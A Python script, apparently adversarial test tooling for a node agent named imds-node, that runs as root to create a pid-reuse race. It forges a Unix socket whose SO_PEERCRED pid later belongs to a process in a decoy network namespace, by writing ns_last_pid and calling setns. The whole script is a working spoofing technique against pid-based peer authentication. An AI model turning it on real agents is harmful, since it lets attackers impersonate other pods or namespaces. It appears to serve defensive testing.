"""A pod's socket whose listener's pid names another process by the time
imds-node connects: the pid-reuse window between SO_PEERCRED and reading
/proc/<pid>, made on purpose.

pid_reuse.py DECOY_NETNS PATH (run in the pod's cgroup, in the socket's
folder, as root: it writes /proc/sys/kernel/ns_last_pid):
  A binds PATH.new (a SOCK_SEQPACKET socket) and listens, so the socket's
    peer credentials name A (unix_listen: init_peercred);
  B, A's child, holds the listening socket, accepts and never sends;
  A exits and is reaped, its pid free;
  C is forked with that pid (ns_last_pid = A - 1), and moves to the netns
    DECOY_NETNS (setns): a process of this pod's cgroup in another network
    namespace;
  then PATH.new is renamed PATH (what imds-node watches for), and it prints
  "ready A C" and waits.  An agent that trusts the pid number sees the
  pod's cgroup and the decoy's netns.  Without a reused pid after 200 tries
  (another process took it each time) it prints "no reuse" and exits 1.
B and C end when this process does (SIGKILL included): each waits on a
pipe whose only writer is this process."""
import ctypes
import os
import select
import signal
import socket
import sys
import time

decoy, path = sys.argv[1], sys.argv[2]
tmp = path + ".new"
CLONE_NEWNET = 0x40000000
death_r, death_w = os.pipe()


def listener():
    """Forks A (which listens and forks B): returns (A, B)."""
    r, w = os.pipe()
    a = os.fork()
    if a == 0:
        os.close(r)
        s = socket.socket(socket.AF_UNIX, socket.SOCK_SEQPACKET)
        s.bind(tmp)
        s.listen(8)
        b = os.fork()
        if b == 0:
            os.close(w)
            os.close(death_w)
            held = []
            while True:
                ready, _, _ = select.select([s, death_r], [], [])
                if death_r in ready:
                    os._exit(0)
                held.append(s.accept()[0])
        os.write(w, b"%d\n" % b)
        os._exit(0)
    os.close(w)
    b = int(os.read(r, 32))
    os.close(r)
    os.waitpid(a, 0)  # reaped: the pid is free
    return a, b


for _ in range(200):
    try:
        os.unlink(tmp)
    except FileNotFoundError:
        pass
    a, b = listener()
    with open("/proc/sys/kernel/ns_last_pid", "w") as f:
        f.write(str(a - 1))
    c = os.fork()
    if c == 0:
        os.close(death_w)
        fd = os.open("/run/netns/" + decoy, os.O_RDONLY)
        if ctypes.CDLL(None, use_errno=True).setns(fd, CLONE_NEWNET):
            os._exit(2)
        os.read(death_r, 1)
        os._exit(0)
    if c == a:
        break
    for p in (b, c):
        os.kill(p, signal.SIGKILL)
    os.waitpid(c, 0)
else:
    print("no reuse", flush=True)
    sys.exit(1)
# C in the decoy netns before the agent can look
me = os.stat("/proc/self/ns/net").st_ino
for _ in range(500):
    try:
        if os.stat("/proc/%d/ns/net" % c).st_ino != me:
            break
    except OSError:
        pass
    time.sleep(0.01)
os.rename(tmp, path)
print("ready %d %d" % (a, c), flush=True)
while True:
    time.sleep(3600)
